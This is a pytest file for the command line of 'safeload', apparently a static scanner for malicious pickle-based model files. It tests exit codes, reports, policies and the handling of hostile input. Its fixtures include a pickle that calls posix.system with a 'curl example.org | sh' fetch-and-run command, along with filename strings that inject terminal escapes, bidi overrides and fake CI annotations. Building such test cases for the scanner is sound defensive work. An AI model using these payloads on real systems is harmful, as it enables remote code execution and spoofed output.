"""`safeload scan` as a person and as a CI gate see it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from safeload.opcodes.assemble import assemble
from tests.cli import snapshot
from tests.cli.inputs import BROKEN, EVIL, OURS, PAGE, PLAIN, calling, run, state_dict, torch_zip

ROOT = Path(__file__).parents[2]


@pytest.fixture
def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An empty working folder, so that paths in reports are short and the same everywhere."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("SAFELOAD_POLICY", raising=False)
    return tmp_path


CASES = {
    "evil": EVIL,
    "ours": OURS,
    "plain": PLAIN,
    "broken": BROKEN,
    "page": PAGE,
    "state_dict": state_dict(),
    "cut_zip": state_dict()[:300],
    "evil_zip": torch_zip("PROTO 2\nGLOBAL posix system\nBINUNICODE 'curl example.org | sh'\nTUPLE1\nREDUCE\nSTOP"),
    "mixed": calling("posix.system", "acme.Config", "acme.Other"),
    "many_names": calling(*(f"acme.models.Layer{number:02d}" for number in range(40))),
    "empty": b"",
}
EXPECTED = {"evil": 1, "ours": 1, "plain": 0, "broken": 1, "page": 2, "state_dict": 0, "cut_zip": 2, "evil_zip": 1, "mixed": 1, "many_names": 1, "empty": 2}


@pytest.mark.parametrize("name", CASES)
def test_what_a_person_sees(here: Path, name: str) -> None:
    (here / f"{name}.pt").write_bytes(CASES[name])
    outcome = run("scan", f"{name}.pt")
    assert outcome.code == EXPECTED[name]
    assert outcome.err == ""
    snapshot.check(f"scan-{name}", outcome.out)


@pytest.mark.parametrize("name", CASES)
def test_the_exit_code_is_the_same_in_every_format(here: Path, name: str) -> None:
    (here / "model.pt").write_bytes(CASES[name])
    for options in ([], ["--all"], ["-f", "json"], ["-o", "report"], ["-f", "json", "-o", "report"], ["--digest"], ["--verify", "crc"]):
        assert run("scan", *options, "model.pt").code == EXPECTED[name], options
    assert run("scan", "--exit-zero", "model.pt").code == 0


@pytest.mark.parametrize("options", [[], ["--all"]])
@pytest.mark.parametrize("name", CASES)
def test_no_line_is_wider_than_80_columns(here: Path, name: str, options: list[str]) -> None:
    (here / f"{name}.pt").write_bytes(CASES[name])
    assert [line for line in run("scan", *options, f"{name}.pt").out.splitlines() if len(line) > 80] == []


def test_the_report_is_one_screen_and_all_is_more(here: Path) -> None:
    (here / "model.pt").write_bytes(calling(*(f"os.f{number}" for number in range(40))))
    short, long = run("scan", "model.pt").out, run("scan", "--all", "model.pt").out
    assert short.count("error[") == 3
    assert "and 37 more errors (--all shows them)" in short
    assert long.count("error[") == 40
    assert "--all" not in long


# ---- the policy stanza -------------------------------------------------------------------------------------------------------------------


def pasted(report: str) -> str:
    """The TOML of a report, as a person would paste it: the indented block from its first comment to the last reason."""
    lines = report.splitlines()
    first = next(number for number, line in enumerate(lines) if line.startswith("    # my-policy.toml"))
    last = max(number for number, line in enumerate(lines) if line.startswith("    reason "))
    return "\n".join(line.removeprefix("    ") for line in lines[first : last + 1]) + "\n"


def test_the_stanza_changes_the_verdict_once_somebody_says_why(here: Path) -> None:
    (here / "ours.pt").write_bytes(OURS)
    toml = pasted(run("scan", "ours.pt").out)
    (here / "my-policy.toml").write_text(toml)
    refused = run("scan", "--policy", "my-policy.toml", "ours.pt")
    assert refused.code == 2
    assert "reason" in refused.err
    assert "is empty" in refused.err
    (here / "my-policy.toml").write_text(toml.replace('reason     = ""', 'reason     = "we wrote them"'))
    accepted = run("scan", "--policy", "my-policy.toml", "ours.pt")
    assert accepted.code == 0
    assert "another loader would import them" in " ".join(accepted.out.split())


def test_the_stanza_extends_a_policy_file_by_its_whole_path(here: Path) -> None:
    first = 'schema = 1\nname = "a"\nversion = "1"\nsummary = "s"\nowner = "o"\nmode = "enforce"\ndefault = "deny"\nextends = ["checkpoint"]\n'
    (here / 'odd "name.toml').write_text(first)
    (here / "ours.pt").write_bytes(OURS)
    toml = pasted(run("scan", "-p", 'odd "name.toml', "ours.pt").out)
    (here / "my-policy.toml").write_text(toml.replace('reason     = ""', 'reason     = "ours"'))
    assert run("scan", "-p", "my-policy.toml", "ours.pt").code == 0


@pytest.mark.parametrize("data", [calling("posix.system", "acme.A", "acme.B"), calling("acme.A", "acme.B x")])
def test_no_stanza_is_offered_where_it_would_not_help(here: Path, data: bytes) -> None:
    (here / "model.pt").write_bytes(data)
    out = run("scan", "model.pt").out
    assert "[[opaque]]" not in out
    assert "An entry for these would not make the file accepted" in out or "No policy entry can be suggested" in out


def test_the_policy_comes_from_the_environment(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (here / "ours.pt").write_bytes(OURS)
    assert run("scan", "ours.pt").code == 1
    monkeypatch.setenv("SAFELOAD_POLICY", "inspect")
    assert run("scan", "ours.pt").code == 0
    assert run("scan", "-p", "weights-only", "ours.pt").code == 1


# ---- several files -----------------------------------------------------------------------------------------------------------------------


def test_a_folder(here: Path) -> None:
    (here / "run" / "b").mkdir(parents=True)
    for name, data in {"run/a.pt": PLAIN, "run/b/evil.pt": EVIL, "run/b/page.pt": PAGE, "run/c.pt": state_dict(), "run/notes.md": b"# notes\n"}.items():
        (here / name).write_bytes(data)
    outcome = run("scan", "run", "--exclude", "*.md")
    assert outcome.code == 1
    snapshot.check("scan-folder", outcome.out)


@pytest.mark.parametrize(
    ("names", "code"),
    [(["plain"], 0), (["plain", "page"], 2), (["plain", "page", "evil"], 1), (["plain", "nothing"], 3), (["page", "nothing"], 2), (["nothing"], 3), ([], 3)],
)
def test_the_worst_decides(here: Path, names: list[str], code: int) -> None:
    (here / "nothing").mkdir()
    for name in ("plain", "page", "evil"):
        (here / name).write_bytes(CASES[name])
    assert run("scan", *names).code == code
    found = run("scan", "-f", "json", *names)
    assert found.code == code
    summary = json.loads(found.out)["summary"]
    assert summary["files"] == len([name for name in names if name != "nothing"])
    assert summary["nothing"] == names.count("nothing")


def test_one_bad_file_does_not_end_the_run(here: Path) -> None:
    (here / "plain.pt").write_bytes(PLAIN)
    os.symlink("nowhere", here / "a-dangling.pt")
    os.mkfifo(here / "b-fifo.pt")  # opening it would wait for ever
    outcome = run("scan", "-f", "json", ".", "missing.pt")
    results = {entry["path"]: entry for entry in json.loads(outcome.out)["results"]}
    assert outcome.code == 2
    assert {path: entry["verdict"] for path, entry in results.items()} == {
        "./a-dangling.pt": "inconclusive",
        "./b-fifo.pt": "inconclusive",
        "./plain.pt": "accepted",
        "missing.pt": "inconclusive",
    }
    assert results["missing.pt"]["findings"][0]["rule"] == "SL005"


def test_a_missing_file_is_one_line_on_stderr(here: Path) -> None:
    for verb in ("scan", "tensors", "tree", "dis"):
        outcome = run(verb, "missing.pt")
        assert (outcome.code, outcome.out) == (2, ""), verb
        assert outcome.err.count("\n") == 1
        assert "missing.pt" in outcome.err
        assert "No such file" in outcome.err


# ---- stdin, output, usage ----------------------------------------------------------------------------------------------------------------


def test_standard_input(here: Path) -> None:
    outcome = run("scan", "-", stdin=EVIL)
    assert outcome.code == 1
    assert "--> <stdin> : 0x001a" in outcome.out
    assert run("scan", "-", stdin=state_dict()).code == 0


def test_output_goes_to_the_file_and_nowhere_else(here: Path) -> None:
    (here / "evil.pt").write_bytes(EVIL)
    outcome = run("scan", "-o", "report.txt", "evil.pt")
    assert outcome.out == ""
    assert (here / "report.txt").read_text() == run("scan", "evil.pt").out
    unwritable = run("scan", "-o", "no/such/folder/report.txt", "evil.pt")
    assert unwritable.code == 2
    assert unwritable.err.count("\n") == 1


USAGE = [["--policy", "nope", "x"], ["--policy", "missing.toml", "x"], ["--format", "xml", "x"], ["--encoding", "klingon", "x"], ["--wat"]]


@pytest.mark.parametrize("arguments", USAGE)
def test_wrong_usage_is_2_without_a_traceback(here: Path, arguments: list[str]) -> None:
    outcome = run("scan", *arguments)
    assert outcome.code == 2
    assert outcome.err
    assert "Traceback" not in outcome.err


def test_a_bug_of_ours_is_one_line_and_no_verdict(here: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (here / "plain.pt").write_bytes(PLAIN)

    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("boom\x1b[31m")

    monkeypatch.setattr("safeload.api.read", broken)
    outcome = run("scan", "plain.pt")
    assert outcome.code == 2
    text = "internal error, please report it: RuntimeError: boom\\x1b[31m (test_scan.py:"
    assert outcome.err.startswith(f"safeload: plain.pt: the file cannot be read: {text}")
    assert outcome.err.count("\n") == 1
    assert run("scan", "plain.pt", "plain.pt", "-f", "json").out.count("please report it") == 2  # each file stands alone
    monkeypatch.setattr("safeload.cli.scanning.judged", broken)
    outcome = run("scan", "plain.pt")
    assert (outcome.code, outcome.err.count("\n")) == (2, 1)
    assert outcome.err.startswith(f"safeload: {text}")


def test_version_and_help(here: Path) -> None:
    assert run("--version").out.startswith("safeload ")
    for arguments in (["--help"], ["scan", "--help"], ["tensors", "-h"], ["tree", "-h"], ["dis", "-h"]):
        outcome = run(*arguments)
        assert outcome.code == 0
        assert outcome.out.startswith("Usage: safeload")


# ---- hostile names -----------------------------------------------------------------------------------------------------------------------

HOSTILE = ("a.\x1b[2Jclear", "b.\u202egnp.exe", "c.x\n::error::fake", "d." + "y" * 900, "e.\u200binvisible", "f.\ud800surrogate", "g.`x`<b>")


@pytest.mark.parametrize("options", [[], ["--all"], ["-f", "json"]])
def test_hostile_names_stay_text(here: Path, options: list[str]) -> None:
    data = assemble_names(HOSTILE)
    path = "x\x1b[31m\u202e\n.pt"
    (here / path).write_bytes(data)
    out = run("scan", *options, path).out
    assert all(char == "\n" or char.isprintable() for char in out)
    assert "\u202e" not in out
    assert "\n::error" not in out


def assemble_names(names: tuple[str, ...]) -> bytes:
    """`calling`, for names that hold what no listing can."""
    parts = [b"\x80\x04]"]
    for name in names:
        for text in name.split(".", 1):
            raw = text.encode("utf-8", "surrogatepass")
            parts.append(b"X" + len(raw).to_bytes(4, "little") + raw)
        parts.append(b"\x93)Ra")
    return b"".join([*parts, b"."])


def test_json_keeps_hostile_names_whole(here: Path) -> None:
    (here / "x.pt").write_bytes(assemble_names(HOSTILE))
    names = {entry["global"] for entry in json.loads(run("scan", "-f", "json", "x.pt").out)["results"][0]["globals"]}
    assert names == {name.replace("\ud800", "\\ud800") for name in HOSTILE}


def test_ten_thousand_names(here: Path) -> None:
    (here / "x.pt").write_bytes(assemble_names(tuple(f"acme.n{number}" for number in range(9_999))))
    out = run("scan", "x.pt").out
    assert len(out.splitlines()) < 120
    assert "and 9,998 more errors" in out
    assert "and 9,939 more names" in out


# ---- what it must not import, and pipes --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("arguments", [["--help"], ["scan", "evil.pt"], ["scan", "state_dict.pt"], ["scan", "-f", "json", "state_dict.pt"]])
def test_a_scan_imports_nothing_heavy(here: Path, arguments: list[str]) -> None:
    (here / "evil.pt").write_bytes(EVIL)
    (here / "state_dict.pt").write_bytes(state_dict())
    code = f"""
import sys
sys.path.insert(0, {str(ROOT)!r})
from safeload.cli import main
try:
    main({arguments!r})
except SystemExit as ended:
    assert ended.code in (0, 1), ended.code
print(sorted(set(sys.modules) & {{"numpy", "rich", "fickling", "ml_dtypes", "torch", "cupy", "pickle"}}), file=sys.stderr)
"""
    done = subprocess.run([sys.executable, "-c", code], cwd=here, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr
    assert done.stderr.strip() == "[]"


def test_a_reader_that_goes_away_is_no_traceback(here: Path) -> None:
    (here / "x.pt").write_bytes(assemble_names(tuple(f"acme.n{number}" for number in range(5_000))))
    code = f"import sys; sys.path.insert(0, {str(ROOT)!r}); from safeload.cli import main; main(['dis', 'x.pt'])"
    with subprocess.Popen([sys.executable, "-c", code], cwd=here, stdout=subprocess.PIPE, stderr=subprocess.PIPE) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        assert process.stderr.read() == b""
    assert process.returncode == 2


def test_colours_are_for_terminals(here: Path) -> None:
    import pty

    (here / "evil.pt").write_bytes(EVIL)
    code = f"import sys; sys.path.insert(0, {str(ROOT)!r}); from safeload.cli import main; main(['scan', 'evil.pt'])"
    seen = {}
    for name, extra in (("plain", {"NO_COLOR": "1"}), ("colour", {})):
        parent, child = pty.openpty()
        environment = {key: value for key, value in os.environ.items() if key != "NO_COLOR"} | {"TERM": "xterm"} | extra
        subprocess.run([sys.executable, "-c", code], cwd=here, stdout=child, stderr=child, env=environment, check=False)
        os.close(child)
        seen[name] = b""
        try:
            while part := os.read(parent, 1 << 16):
                seen[name] += part
        except OSError:
            pass  # EIO: how Linux says that the other end is closed
        os.close(parent)
    assert b"\x1b[" in seen["colour"]
    assert b"\x1b[" not in seen["plain"]
    assert b"posix.system" in seen["plain"]


def test_the_listing_of_a_refused_call_is_bounded(here: Path) -> None:
    listing = "PROTO 2\nGLOBAL posix system\nMARK\n" + "BINUNICODE 'x'\n" * 5_000 + "TUPLE\nREDUCE\nSTOP"
    (here / "x.pt").write_bytes(assemble(listing))
    assert len(run("scan", "--all", "x.pt").out.splitlines()) < 40


def test_the_package_runs_as_a_module(tmp_path: Path) -> None:
    done = subprocess.run([sys.executable, "-m", "safeload", "--version"], capture_output=True, text=True, cwd=tmp_path, check=False)
    assert done.returncode == 0, done.stderr
    assert "safeload" in done.stdout
